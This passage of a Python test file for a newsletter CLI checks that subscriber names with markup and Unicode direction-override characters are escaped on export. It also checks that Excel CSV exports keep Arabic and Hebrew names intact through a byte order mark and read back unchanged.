    # (a name wraps at its spaces)
    assert [name.replace(" ", "") for name in names] == [long_name, "Rana[boldred]x[/]Z", "Sam"]


def test_export_person_writes_a_names_direction_controls_as_escapes(
    tmp_path: Path, base_url: str
) -> None:
    # A name from a sign-up form may hold a direction override: U+202E turned the rest of each
    # line of the JSON backwards on the operator's terminal. The same data, as \\u escapes.
    config, _ = config_without_file(tmp_path, base_url)
    name = "\u202eRana \u2066x\u2069 \u200fZ"
    (tmp_path / "readers.csv").write_text(f"email,name\nrana@example.org,{name}\n", "utf-8")
    added = digest(
        config, "subscribers", "import", str(tmp_path / "readers.csv"), "--list", "daily"
    )
    assert added.exit_code == 0, added.output
    held = digest(config, "subscribers", "export-person", "rana@example.org")
    assert held.exit_code == 0, held.output
    assert not re.search("[\u200e\u200f\u202a-\u202e\u2066-\u2069]", held.stdout), held.stdout
    assert json.loads(held.stdout)["subscriber"]["name"] == name


def test_an_export_for_excel_keeps_arabic_and_hebrew_names_and_reads_back(
    tmp_path: Path, base_url: str
) -> None:
    # Excel on Windows reads a CSV file without a byte order mark in the machine's code page:
    # every Arabic and Hebrew name of an export showed as mojibake ("Ø±Ù†Ø§"). --excel writes
    # the mark (and Excel's line ends); the default export stays plain UTF-8 for programs.
    config, _ = config_without_file(tmp_path, base_url)
    names = {"r0@example.org": "رنا حداد", "r1@example.org": "שרה לוי", "r2@example.org": "Sam"}
    (tmp_path / "new.csv").write_text(
        "email,name\n" + "".join(f"{email},{name}\n" for email, name in names.items()),
        encoding="utf-8",
    )
    added = digest(config, "subscribers", "import", str(tmp_path / "new.csv"), "--list", "daily")
    assert "3 added" in added.stdout, added.output

    for_excel, plain = tmp_path / "excel.csv", tmp_path / "plain.csv"
    exported = digest(config, "subscribers", "export", "--excel", "-o", str(for_excel))
    assert exported.exit_code == 0, exported.output
    assert digest(config, "subscribers", "export", "-o", str(plain)).exit_code == 0
    data = for_excel.read_bytes()
    assert data.startswith(codecs.BOM_UTF8) and data.count(codecs.BOM_UTF8) == 1
    assert data.count(b"\r\n") == 4 and b"\n" not in data.replace(b"\r\n", b"")
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert {row["email"]: row["name"] for row in rows} == names
    assert not plain.read_bytes().startswith(codecs.BOM_UTF8)
    assert plain.read_bytes().count(b"\r") == 0
    # To the terminal (redirected into a file), the same bytes.
    printed = digest(config, "subscribers", "export", "--excel")
    assert printed.stdout_bytes == data
    # Read back, the file is the same readers with the same names.
    back = digest(config, "subscribers", "import", str(for_excel), "--list", "daily")
    assert "0 added, 0 updated, 3 unchanged, 0 refused" in back.stdout, back.output
